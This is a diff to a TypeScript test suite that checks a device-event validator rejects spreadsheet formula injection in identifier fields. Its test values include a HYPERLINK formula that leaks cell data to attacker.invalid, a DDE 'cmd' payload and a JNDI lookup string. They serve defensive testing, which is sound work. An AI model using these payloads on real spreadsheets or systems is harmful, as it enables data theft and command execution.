@@ -25,6 +25,49 @@ export function hostileTextCases(fresh: Template): CaseSpec[] {
       expectedCode: ACCEPTED,
       change: set('data.brand', '${jndi:ldap://attacker.invalid/a}'),
     },
+    // Identifiers end up in evidence CSVs a finance team opens in a spreadsheet (CSV injection).
+    {
+      name: 'spreadsheet formula in siteId',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.siteId', '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'),
+    },
+    {
+      name: 'spreadsheet formula in workshopId',
+      type: 'device.refurbished',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.workshopId', "+cmd|' /C calc'!A0"),
+    },
+    {
+      name: 'spreadsheet formula in erasureCertificateId',
+      type: 'device.refurbished',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.erasureCertificateId', '@SUM(1+1)*cmd'),
+    },
+    {
+      name: 'spreadsheet formula in orderId behind whitespace',
+      type: 'device.resold',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('data.orderId', ' \t-2+3'),
+    },
+    {
+      name: 'spreadsheet formula in source',
+      expectedCode: RejectionCode.INVALID_STRING,
+      change: set('source', '=1+1'),
+    },
+    {
+      name: 'formula characters inside identifiers',
+      type: 'device.refurbished',
+      expectedCode: ACCEPTED,
+      change: (e) => {
+        set('data.workshopId', 'WS-12=A+B')(e);
+        set('data.erasureCertificateId', 'cert@blancco-2025')(e);
+      },
+    },
+    {
+      name: 'spreadsheet formula in model (a label: neutralised where written, not refused)',
+      expectedCode: ACCEPTED,
+      change: set('data.model', '=1+1'),
+    },
     {
       name: 'escaped NUL in siteId',
       expectedCode: RejectionCode.INVALID_STRING,
